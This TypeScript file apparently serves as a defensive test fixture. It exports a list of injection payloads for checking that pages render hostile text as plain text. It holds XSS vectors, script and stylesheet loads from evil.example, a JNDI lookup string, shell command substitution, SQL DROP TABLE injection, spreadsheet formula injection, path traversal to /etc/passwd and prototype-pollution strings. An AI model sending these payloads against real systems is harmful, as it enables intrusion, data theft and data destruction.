/**
 * Texts that attack whatever displays them: pages, attributes, structured data, drawings, the build's own replacements,
 * and the places to which editors copy a text. Each must reach the visitor as plain text. Scripts among them would call
 * `attack()`, and addresses would point to evil.example.
 */

const markup = [
  '<b>',
  '<!--',
  '<ScRiPt>attack()</sCrIpT>',
  '<script src=//evil.example/a.js>',
  '</ScRiPt ><img src=x onerror=attack()>',
  '</title><script>attack()</script>',
  '</style><script>attack()</script>',
  '</textarea><script>attack()</script>',
  '</text></svg><script>attack()</script>',
  '--><script>attack()</script><!--',
  ']]><script>attack()</script><![CDATA[',
  '<!DOCTYPE html><script>attack()</script>',
  '<img/src/onerror=attack()>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s>',
  '<svg><foreignObject><body onload=attack()></foreignObject></svg>',
  '<math><mtext><img src=x onerror=attack()></mtext></math>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<object data="javascript:attack()">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<p style="background:url(https://evil.example/)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=a><button>Send',
  '<a href="java&#10;script:attack()">Go</a>',
  '<template><script>attack()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<form id=document><input name=cookie>',
]

const attributes = [
  '" onmouseover="attack()" x="',
  "' onfocus='attack()' autofocus='",
  '` onload=attack() `',
  '"/><script>attack()</script>',
]

const entities = [
  '&lt;b&gt;',
  '&#x3C;script&#x3E;attack()',
  '&amp;lt;script&amp;gt;attack()',
  '&quot;&apos;&nbsp;&shy;&lrm;&rlm;',
  '%3Cscript%3Eattack()%3C/script%3E',
  '\\u003cscript\\u003eattack()\\u003c/script\\u003e',
  '＜script＞attack()＜/script＞',
]

const addresses = [
  'JaVaScRiPt://%0aattack()',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  '//evil.example/',
  'https://www.example.com@evil.example/',
  '../../../../etc/passwd',
  '%00',
  '%0d%0aSet-Cookie: a=b',
  '[Go](javascript:attack())',
  '![x](x"onerror="attack())',
]

const scripts = [
  '${attack()}',
  "{{constructor.constructor('attack()')()}}",
  '<%= attack() %>',
  "';attack();//",
  '\\";attack();//',
  '*/attack()/*',
  "export const x = 1; import 'https://evil.example/a.js'",
]

const data = [
  '</script><script type="application/ld+json">{"@type":"Thing"}</script>',
  '"}</script><script>attack()</script>{"',
  '","@type":"Thing","name":"',
  '__proto__',
  'constructor',
  '{"__proto__":{"attacked":true}}',
  '\\',
  '\\\\"',
  '") { id } } mutation { deleteAll',
]

/** Patterns that a build or server could execute or expand: replacements, shells, databases, spreadsheets. */
const machines = [
  "$& $1 $` $' $$ $<name>",
  '$(touch /tmp/attacked)',
  '`touch /tmp/attacked`',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE services; --",
  '<!--#exec cmd="ls" -->',
  '<esi:include src="https://evil.example/"/>',
  '=HYPERLINK("https://evil.example","Go")',
  "+1+cmd|' /C calc'!A0",
]

const writing = [
  'مرحبا بالعالم',
  '👩‍👩‍👧‍👦 🏴‍☠️ 🇺🇳',
  'Z͑ͫ̓ͪ̂a̴͔l̷̡g̸̨ơ̶ ̵t̷e̸x̶t̷',
  'i̇İıI ß ﬀ ǅ',
  'one\u2028two',
  'three\u2029four',
  'one\u00ADtwo',
  'one\u00A0two\u3000three',
  'one\u200Dtwo\u200Cthree',
  '\uE000\uF8FF',
]

/** As long as fields allow, and without a possible line break. */
const oversize = [7, 23, 31, 39, 59, 79, 119, 159, 239, 399, 899].map((length) => 'W'.repeat(length))

export const PAYLOADS: readonly string[] = [
  ...markup,
  ...attributes,
  ...entities,
  ...addresses,
  ...scripts,
  ...data,
  ...machines,
  ...writing,
  ...oversize,
]
